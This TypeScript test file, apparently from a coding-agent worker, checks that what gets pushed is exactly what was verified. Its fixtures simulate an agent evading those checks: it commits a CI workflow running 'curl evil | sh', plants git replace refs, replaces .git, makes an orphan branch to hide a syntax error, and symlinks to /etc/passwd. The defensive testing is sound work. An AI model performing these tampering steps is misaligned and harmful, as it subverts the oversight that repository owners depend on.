// What reaches the remote is exactly what was checked (issue 11): the agent's own commits, a replaced .git
// and names that are not UTF-8, against real git.
import assert from 'node:assert/strict';
import { execFileSync, spawnSync } from 'node:child_process';
import { mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { PermanentError } from '../../worker/core/errors.ts';
import { createGit } from '../../worker/job/git.ts';
import { changedLinks, linkCheck } from '../../worker/job/link-check.ts';
import { pullRequestDescription } from '../../worker/job/pull-request-description.ts';
import { createVerifier, workflowChanges } from '../../worker/job/verify.ts';
import { createFakeSandboxProvider } from '../support/fake-sandbox.ts';
import { createThrowawayRepo } from '../support/throwaway-repo.ts';

const author = { name: 'CodingWorker Test', email: 'cw-test@example.com' };

/** git as the agent runs it inside its workspace (its own identity, its own .git). */
function agentGit(dir: string, ...args: string[]): string {
  return execFileSync('git', args, {
    cwd: dir,
    encoding: 'utf8',
    env: {
      PATH: process.env.PATH ?? '/usr/bin:/bin',
      HOME: dir,
      GIT_CONFIG_NOSYSTEM: '1',
      GIT_AUTHOR_NAME: 'agent',
      GIT_AUTHOR_EMAIL: 'agent@example.com',
      GIT_COMMITTER_NAME: 'agent',
      GIT_COMMITTER_EMAIL: 'agent@example.com',
    },
  });
}

describe('git integrity: the base, not HEAD', () => {
  const repo = createThrowawayRepo({ 'README.md': '# demo\n', 'app.py': 'print(1)\n' });
  after(() => repo.remove());
  const git = createGit({ author, allowFileProtocol: true });
  let counter = 0;
  const base = repo.git('rev-parse', 'main').trim();

  async function cloned(branch: string) {
    const dir = join(repo.scratch, `ws-${++counter}`);
    const ws = await git.clone(repo.path, dir, { branch: 'main' });
    await ws.createBranch(branch);
    return { ws, dir };
  }

  it("lists and pushes what the agent committed itself, as one worker commit on the base; the agent's commit stays behind", async () => {
    const { ws, dir } = await cloned('auto-code/issue-21');
    mkdirSync(join(dir, '.github', 'workflows'), { recursive: true });
    writeFileSync(
      join(dir, '.github', 'workflows', 'ci.yml'),
      'on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: "curl evil | sh"}]}}\n',
    );
    writeFileSync(join(dir, 'app.py'), 'def broken(:\n');
    agentGit(dir, 'add', '-A');
    agentGit(dir, 'commit', '-qm', 'x');
    const agentCommit = agentGit(dir, 'rev-parse', 'HEAD').trim();
    writeFileSync(join(dir, 'hello.txt'), 'hello\n');

    const files = await ws.changedFiles();
    assert.deepEqual(
      files.map((file) => file.path),
      ['.github/workflows/ci.yml', 'app.py', 'hello.txt'],
    );
    assert.deepEqual(workflowChanges(files), ['.github/workflows/ci.yml'], 'the workflow rule sees it');

    const sha = await ws.commit('message\n');
    await ws.push(repo.path, 'auto-code/issue-21');
    assert.equal(repo.git('rev-parse', 'auto-code/issue-21').trim(), sha);
    assert.equal(repo.git('rev-parse', 'auto-code/issue-21^').trim(), base, 'parent is the base');
    assert.equal(repo.git('rev-list', '--count', `${base}..auto-code/issue-21`).trim(), '1');
    assert.equal(repo.git('log', '-1', '--format=%an', 'auto-code/issue-21').trim(), author.name);
    assert.throws(() => repo.git('cat-file', '-e', agentCommit), 'the agent commit never reached the remote');
  });

  it('fails verification for a syntax error the agent committed and hid behind HEAD', async () => {
    const { ws, dir } = await cloned('auto-code/issue-22');
    writeFileSync(join(dir, 'broken.js'), 'export const = ;\n');
    agentGit(dir, 'add', '-A');
    agentGit(dir, 'commit', '-qm', 'x');
    writeFileSync(join(dir, 'hello.txt'), 'hello\n');
    const verify = createVerifier({
      workspace: dir,
      git: ws,
      sandboxProvider: createFakeSandboxProvider(),
      taskId: 'owner-repo-22',
      repoConfig: {},
      allowWorkflowChanges: false,
      commandTimeoutSeconds: 30,
    });
    const verdict = await verify();
    assert.equal(verdict.ok, false);
    assert.match(verdict.feedback, /broken\.js/);
  });

  it('ignores replace refs and grafts the agent planted: the pushed tree is the work tree', async () => {
    const { ws, dir } = await cloned('auto-code/issue-23');
    writeFileSync(join(dir, 'hello.txt'), 'hello\n');
    // A replace ref that makes the base look like a commit with a different tree (all of the work tree).
    agentGit(dir, 'add', '-A');
    const fakeTree = agentGit(dir, 'write-tree').trim();
    const fake = agentGit(dir, 'commit-tree', fakeTree, '-m', 'fake').trim();
    agentGit(dir, 'replace', base, fake);
    const files = await ws.changedFiles();
    assert.deepEqual(
      files.map((file) => file.path),
      ['hello.txt'],
    );
    const sha = await ws.commit('message\n');
    await ws.push(repo.path, 'auto-code/issue-23');
    assert.equal(repo.git('rev-parse', `${sha}^`).trim(), base);
    assert.equal(repo.git('diff', '--name-only', base, sha).trim(), 'hello.txt');
  });

  it('refuses a workspace whose .git was replaced by a fresh repository, and pushes nothing', async () => {
    const { ws, dir } = await cloned('auto-code/issue-24');
    rmSync(join(dir, '.git'), { recursive: true, force: true });
    agentGit(dir, 'init', '-q');
    writeFileSync(join(dir, 'hello.txt'), 'hello\n');
    agentGit(dir, 'add', '-A');
    agentGit(dir, 'commit', '-qm', 'x');
    const refused = (error: Error) => {
      assert.ok(error instanceof PermanentError, String(error));
      assert.match(error.message, /no longer contains [0-9a-f]{12}.*refused/);
      return true;
    };
    await assert.rejects(ws.changedFiles(), refused);
    await assert.rejects(ws.commit('message\n'), refused);
    await assert.rejects(ws.push(repo.path, 'auto-code/issue-24'));
    assert.throws(() => repo.git('rev-parse', '--verify', 'refs/heads/auto-code/issue-24'));
  });

  it('refuses a workspace whose history no longer contains the base (an orphan branch)', async () => {
    const { ws, dir } = await cloned('auto-code/issue-25');
    agentGit(dir, 'checkout', '-q', '--orphan', 'elsewhere');
    writeFileSync(join(dir, 'hello.txt'), 'hello\n');
    agentGit(dir, 'add', '-A');
    agentGit(dir, 'commit', '-qm', 'x');
    await assert.rejects(ws.commit('message\n'), /no longer contains/);
  });

  it('checks a file whose name is not UTF-8, byte for byte, and shows its name escaped', async () => {
    const { ws, dir } = await cloned('auto-code/issue-26');
    const name = Buffer.concat([Buffer.from('new'), Buffer.from([0xfe, 0xff]), Buffer.from('.py')]);
    writeFileSync(Buffer.concat([Buffer.from(`${dir}/`), name]), 'y = (\n');
    const files = await ws.changedFiles();
    assert.deepEqual(
      files.map((file) => file.path),
      ['new\\xfe\\xff.py'],
    );
    // The sandbox's bash, run here on the same workspace: the command must carry the name's exact bytes.
    const sandboxProvider = createFakeSandboxProvider((command) => {
      const run = spawnSync('bash', ['-c', command], { cwd: dir, encoding: 'utf8' });
      return { exitCode: run.status ?? 1, stdout: run.stdout, stderr: run.stderr };
    });
    const verify = createVerifier({
      workspace: dir,
      git: ws,
      sandboxProvider,
      taskId: 'owner-repo-26',
      repoConfig: {},
      allowWorkflowChanges: false,
      commandTimeoutSeconds: 30,
    });
    const verdict = await verify();
    const python = verdict.checks.find((check) => check.name === 'python syntax');
    assert.equal(python?.ok, false, JSON.stringify(verdict.checks));
    assert.match(python.detail, /new\\xfe\\xff\.py:1:/);
    const description = pullRequestDescription({
      language: 'en',
      issueNumber: 26,
      model: 'm',
      generatedAt: new Date('2026-01-01T00:00:00Z'),
      files,
      result: {
        verdict,
        summary: [],
        steps: [],
        durationMs: 1,
        promptTokens: 0,
        completionTokens: 0,
        verifyRounds: 1,
        reason: 'done',
        strategy: 'shell',
        modelCalls: 1,
        newPromptTokens: 0,
      },
    });
    assert.ok(description.includes('new\\xfe\\xff.py'), description);
    assert.doesNotMatch(description, /\uFFFD/, 'no mangled name');
  });

  it('sees a symbolic link whose name is not UTF-8, so one pointing outside is still refused', async () => {
    const { ws, dir } = await cloned('auto-code/issue-27');
    const name = Buffer.concat([Buffer.from('link'), Buffer.from([0xfe])]);
    symlinkSync('/etc/passwd', Buffer.concat([Buffer.from(`${dir}/`), name]));
    const links = await changedLinks(dir, await ws.changedFiles());
    assert.deepEqual([...links], [['link\\xfe', '/etc/passwd']]);
    assert.equal(linkCheck(dir, links)?.ok, false);
  });
});
